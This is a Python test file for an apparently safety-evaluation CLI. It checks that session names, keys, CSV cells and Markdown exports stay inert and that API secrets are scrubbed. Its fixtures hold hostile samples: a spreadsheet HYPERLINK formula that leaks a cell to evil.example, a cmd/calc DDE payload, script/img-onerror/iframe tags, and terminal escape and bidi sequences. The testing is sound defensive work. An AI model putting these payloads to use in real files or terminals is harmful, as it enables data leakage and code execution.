"""Nothing hostile gets out: names and keys are inert on a terminal, CSV cells never run as formulas, the
Markdown export holds no live HTML, and no key reaches the database or an export."""

from __future__ import annotations

import asyncio
import base64
import csv
import io
import json
import os
import re
import sqlite3
from dataclasses import replace
from pathlib import Path

import pytest
from engine_helpers import TAXONOMY, bank, config_for, run_session
from hostile_server import HostileServer, HostileServerThread
from markdown_it import MarkdownIt

from scsafety_tui.cli import main
from scsafety_tui.config import JudgeConfig, TargetConfig
from scsafety_tui.demo_profile import demo_target
from scsafety_tui.engine.session import create_session
from scsafety_tui.exports import FORMATS, export_to
from scsafety_tui.providers.client import ModelClient, make_http_client
from scsafety_tui.providers.retry import RetryPolicy
from scsafety_tui.questions import Item
from scsafety_tui.store.db import Store

OSC52 = "\x1b]52;c;aGk=\x07"  # a clipboard write
NAME = f"{OSC52}x [red]y[/]"


def _no_escapes(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text


# ---------------------------------------------------------------- the terminal

def test_a_hostile_session_name_is_inert_everywhere_it_is_printed(tmp_path, capsys):
    db = str(tmp_path / "x.db")
    assert main(["demo", "--headless", "--name", NAME, "--limit", "2", "--speed", "instant", "--db", db]) == 0
    outputs = {"demo": capsys.readouterr().out}
    for args in (["show", "last"], ["sessions"], *(["export", "last", "--format", f] for f in FORMATS)):
        assert main([*args, "--db", db]) == 0
        outputs[" ".join(args)] = capsys.readouterr().out
    for what, out in outputs.items():
        _no_escapes(out)
        # shown, not run: ESC as ␛ (or \u001b in JSON), the markup as typed (Markdown escapes its brackets)
        if what == "export last --format csv":  # CSV has no session name
            continue
        assert "52;c;aGk=" in out and ("␛" in out or "\\u001b" in out), what
        if what in ("demo", "show last"):
            assert "␛]52;c;aGk=␇x [red]y[/]" in out, what
    # a file written with -o keeps the exact text, as stored
    out = tmp_path / "r.json"
    assert main(["export", "last", "--format", "json", "-o", str(out), "--db", db]) == 0
    assert json.loads(out.read_text(encoding="utf-8"))["session"]["name"] == NAME


def test_stored_target_keys_are_never_markup_or_escapes(tmp_path, capsys):
    # a config can no longer hold such a key; a database written before (or by hand) still can
    db = str(tmp_path / "k.db")
    key = "[b]k[i]\x1b[2J"
    config = replace(config_for("http://127.0.0.1:9/v1", ("demo-guardian",)),
                     targets=(demo_target(key, "http://127.0.0.1:9/v1", "demo-guardian"),))

    async def create() -> None:
        store = await Store.open(db)
        try:
            await create_session(store, config, TAXONOMY, bank(1), name="keys")
        finally:
            await store.close()

    asyncio.run(create())
    assert main(["show", "last", "--db", db]) == 0
    out = capsys.readouterr().out
    _no_escapes(out)
    assert "[b]k[i]␛[2J" in out
    assert main(["sessions", "--db", db]) == 0
    out = capsys.readouterr().out
    _no_escapes(out)
    assert "[b]k[i]␛[2J" in out


def test_input_errors_print_inert(tmp_path, capsys):
    cfg = tmp_path / "c.toml"
    cfg.write_text('[[targets]]\nkey = "a"\nbase_url = "http://127.0.0.1:1/v1"\nmodel = "m"\n', encoding="utf-8")
    assert main(["run", "--headless", "--config", str(cfg), "--targets", "nope\x1b]0;t\x07",
                 "--db", str(tmp_path / "e.db")]) == 2
    err = capsys.readouterr().err
    _no_escapes(err)
    assert err.count("\n") == 1


# ---------------------------------------------------------------- CSV and Markdown

FORMULA_ANSWER = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HTML_REASON = "<script>alert(1)</script> @SUM(1+1)"


async def _hostile_session(db: str, demo_url: str, hostile_url: str) -> int:
    item = Item("f-001", "traditional", "insult", ("-2+3 等于几？", "+cmd|' /C calc'!A0"))
    config = config_for(demo_url, ("demo-guardian",))
    config = replace(config, targets=(TargetConfig(key="<b>k<i>", provider="openai", base_url=hostile_url,
                                                   model="formula"),),
                     judge=JudgeConfig(mode="model", targets=(TargetConfig(
                         key="<i>judge", provider="openai", base_url=hostile_url, model="verdict"),)))
    sid, status, _ = await run_session(db, config, [item], name="<img src=x onerror=alert(1)>")
    assert status == "done"
    store = await Store.open(db)
    try:
        turn = (await store.fetchall("SELECT id FROM turn WHERE role = 'assistant' ORDER BY id"))[0][0]
        await store.set_label(turn, 1, "me", "<iframe src=//evil>")
    finally:
        await store.close()
    return sid


@pytest.fixture
async def hostile_url():
    server = HostileServer({"formula": FORMULA_ANSWER,
                            "verdict": json.dumps({"score": 1, "reason": HTML_REASON})})
    try:
        yield await server.start()
    finally:
        await server.stop()


async def _hostile_export(db_file: str, demo_url: str, hostile_url: str, fmt: str) -> str:
    sid = await _hostile_session(db_file, demo_url, hostile_url)
    store = await Store.open(db_file)
    try:
        return await export_to(store, str(sid), fmt, None)
    finally:
        await store.close()


async def test_csv_cells_never_start_like_a_formula(db_file, demo_url, hostile_url):
    text = await _hostile_export(db_file, demo_url, hostile_url, "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 2
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert rows[0]["answer"] == "'" + FORMULA_ANSWER
    assert rows[0]["question"] == "'-2+3 等于几？" and rows[1]["question"] == "'+cmd|' /C calc'!A0"
    assert rows[0]["target"] == "<b>k<i>" and rows[0]["judge_reasons"] == HTML_REASON


async def test_markdown_export_holds_no_live_html(db_file, demo_url, hostile_url):
    md = await _hostile_export(db_file, demo_url, hostile_url, "md")
    page = MarkdownIt("commonmark").render(md)  # what a Markdown viewer makes of it
    for tag in ("<script", "<img", "<iframe", "<b>", "<i>"):
        assert tag not in page, tag
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&lt;b&gt;k&lt;i&gt;" in page and "&lt;iframe src=//evil&gt;" in page


# ---------------------------------------------------------------- secrets

KEY = "sk-test-9f8e7d6c5b4a39281706"
HEADER_SECRET = "hdr-secret-5c0ffee5c0ffee"
PARAM_SECRET = "param-secret-0badf00d0badf00d"
URL_PASSWORD = "pw-secret-1234abcd"
ENV = "SCSAFETY_TEST_HOSTILE_KEY"
SECRETS = (KEY, HEADER_SECRET, PARAM_SECRET, URL_PASSWORD)


def _target(key: str, url: str, model: str, **kw) -> TargetConfig:
    return TargetConfig(key=key, provider="openai", base_url=url, model=model, api_key_env=ENV,
                        headers={"X-Custom-Token": HEADER_SECRET}, params={"api_token": PARAM_SECRET, "top_p": 0.9},
                        **kw)


def _db_bytes(db: str) -> bytes:
    return b"".join(p.read_bytes() for p in Path(db).parent.iterdir() if p.name.startswith(Path(db).name))


def _assert_no_secret(blob: bytes | str, what: str) -> None:
    data = blob.encode() if isinstance(blob, str) else blob
    for s in SECRETS:
        assert s.encode() not in data, f"{s} in {what}"


async def test_no_key_reaches_the_database_or_an_export(db_file, demo_url):
    server = HostileServer({"fine": "这个请求我不能帮助。建议你寻求专业的帮助，也可以拨打心理援助热线，保护好自己的安全。"})
    url = await server.start()
    old = os.environ.get(ENV)
    os.environ[ENV] = KEY  # the user's own path: the key comes from the variable api_key_env names
    try:
        config = replace(config_for(demo_url, ("demo-guardian",)),
                         targets=(_target("t401", url, "echo-401"), _target("t400", url, "echo-400"),
                                  _target("tstream", url, "echo-stream"), _target("ok", url, "fine")),
                         judge=JudgeConfig(mode="model", targets=(_target("judge", url, "echo-401"),)))
        sid, _, events = await run_session(db_file, config, bank(1))
    finally:
        await server.stop()
        if old is None:
            del os.environ[ENV]
        else:
            os.environ[ENV] = old
    # the server did see every secret (and echoed them back)
    seen = json.dumps([r for r in server.requests])
    assert KEY in seen and HEADER_SECRET in seen and PARAM_SECRET in seen
    con = sqlite3.connect(db_file)
    errors = [e for (e,) in con.execute("SELECT error FROM turn WHERE error IS NOT NULL")]
    errors += [e for (e,) in con.execute("SELECT error FROM verdict WHERE error IS NOT NULL")]
    assert len(errors) >= 5 and all("***" in e for e in errors), errors
    # the echo stays, its secrets do not
    assert any("Incorrect API key provided: Bearer ***;" in e for e in errors)
    assert any("api_token='***' with header X-Custom-Token='***'" in e for e in errors)
    con.close()
    _assert_no_secret(_db_bytes(db_file), "the database")
    _assert_no_secret(repr(events), "the engine events")
    store = await Store.open(db_file)
    try:
        for fmt in FORMATS:
            _assert_no_secret(await export_to(store, str(sid), fmt, None), f"the {fmt} export")
    finally:
        await store.close()


def test_cli_run_sends_the_real_header_and_stores_none_of_it(tmp_path, capsys):
    with HostileServerThread() as server:
        cfg = tmp_path / "c.toml"
        cfg.write_text(f'[[targets]]\nkey = "t"\nbase_url = "{server.url}"\nmodel = "echo-401"\n'
                       f'api_key_env = "{ENV}"\nheaders = {{ X-Custom-Token = "{HEADER_SECRET}" }}\n'
                       f'params = {{ api_token = "{PARAM_SECRET}" }}\n[judge]\nmode = "heuristic"\n',
                       encoding="utf-8")
        db = str(tmp_path / "cli.db")
        old = os.environ.get(ENV)
        os.environ[ENV] = KEY
        try:
            code = main(["run", "--headless", "--config", str(cfg), "--db", db, "--limit", "1"])
        finally:
            if old is None:
                del os.environ[ENV]
            else:
                os.environ[ENV] = old
    assert code == 3  # every conversation ended with the server's 401
    headers, body = server.requests[0]
    headers = {k.lower(): v for k, v in headers.items()}
    assert headers["x-custom-token"] == HEADER_SECRET and body["api_token"] == PARAM_SECRET  # not "***"
    assert headers["authorization"] == f"Bearer {KEY}"
    out = capsys.readouterr().out
    _assert_no_secret(out, "the run's output")
    _assert_no_secret(_db_bytes(db), "the database")
    stored = sqlite3.connect(db).execute("SELECT error FROM turn WHERE error IS NOT NULL").fetchone()[0]
    assert re.search(r"Bearer \*\*\*", stored) and "***" in stored



async def test_credentials_in_a_url_are_scrubbed_from_errors():
    # config loading refuses user:pass@ in base_url; a target built in code still never leaks them
    server = HostileServer()
    url = await server.start()
    target = TargetConfig(key="u", provider="openai", base_url=url.replace("http://", f"http://user:{URL_PASSWORD}@"),
                          model="echo-401")
    http = make_http_client("httpx", allowed_hosts=[target.host()])
    try:
        client = ModelClient(target, http, RetryPolicy(attempts=1), None)
        with pytest.raises(Exception) as info:
            await client.chat([{"role": "user", "content": "hi"}])
    finally:
        await http.aclose()
        await server.stop()
    seen = json.dumps(server.requests)
    assert "authorization" in seen.lower()  # sent as a Basic credential, and echoed back
    message = info.value.message
    assert "HTTP 401" in message and "***" in message and URL_PASSWORD not in message
    assert base64.b64encode(f"user:{URL_PASSWORD}".encode()).decode() not in message


def test_c1_controls_and_bidi_never_reach_stdout_in_any_format(tmp_path, capsys, demo_thread_url):
    evil = "好的\x9b2J\u202eevil\u200b\x1b[2J"  # 8-bit CSI, a bidi override, a zero-width space, ESC
    with HostileServerThread({"evil": evil}) as server:
        config = replace(config_for(demo_thread_url, ("demo-guardian",)),
                         targets=(TargetConfig(key="e", provider="openai", base_url=server.url, model="evil"),))
        db = str(tmp_path / "c1.db")
        asyncio.run(run_session(db, config, bank(1)))
    for fmt in FORMATS:
        assert main(["export", "last", "--format", fmt, "--db", db]) == 0
        out = capsys.readouterr().out
        for c in ("\x9b", "\u202e", "\u200b", "\x1b"):
            assert c not in out, (fmt, c)
        if fmt == "json":  # the same data, escaped: it parses back to the exact answer
            answers = [t["content"] for c in json.loads(out)["conversations"] for t in c["turns"]
                       if t["role"] == "assistant"]
            assert answers == [evil, evil]
        elif fmt == "jsonl":
            assert [json.loads(line)["answer"] for line in out.splitlines()] == [evil, evil]
        else:
            assert "好的\\x9b2J⟨U+202E⟩evil⟨U+200B⟩␛[2J" in out, fmt


def test_a_banks_own_taxonomy_names_print_literally(tmp_path, capsys):
    shipped = (Path(__file__).parent.parent / "questions" / "taxonomy.toml").read_text(encoding="utf-8")
    (tmp_path / "taxonomy.toml").write_text(shipped.replace('name_zh = "脏话侮辱"', 'name_zh = "[red]脏话\\u001b[2J"')
                                            .replace('name_zh = "传统安全类"', 'name_zh = "[b]传统"'), encoding="utf-8")
    (tmp_path / "b.jsonl").write_text(json.dumps({"id": "x-1", "category": "traditional", "sub_dimension": "insult",
                                                  "turns": ["你好"]}, ensure_ascii=False) + "\n", encoding="utf-8")
    assert main(["questions", "stats", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    _no_escapes(out)
    assert "[red]脏话␛[2J" in out and "[b]传统" in out
